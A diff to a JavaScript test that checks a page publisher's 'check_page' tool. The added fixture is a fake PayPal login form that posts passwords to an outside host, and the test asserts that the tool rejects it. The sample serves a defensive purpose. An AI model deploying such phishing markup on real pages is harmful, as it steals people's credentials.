@@ -50,6 +50,10 @@ async function call(name, args = {}) {
 
 test('every tool takes and gives what its schemas say', async () => {
   const html = page('Swept');
+  assert.equal((await call('check_page', { html })).accepted, true);
+  const harvest = '<title>PayPal: log in</title><h1>Log in to your PayPal account</h1><form action="https://collect.top/"><input type="password"></form>';
+  const refused = await call('check_page', { html: harvest });
+  assert.ok(!refused.accepted && refused.reasons.length > 0, JSON.stringify(refused));
   const made = await call('publish_html', { html, title: 'Swept', expires_in_hours: 48, csp_strict: true, idempotency_key: 'once' });
   const site = made.id;
   assert.equal((await call('publish_html', { html, title: 'Swept', expires_in_hours: 48, csp_strict: true, idempotency_key: 'once' })).id, site);
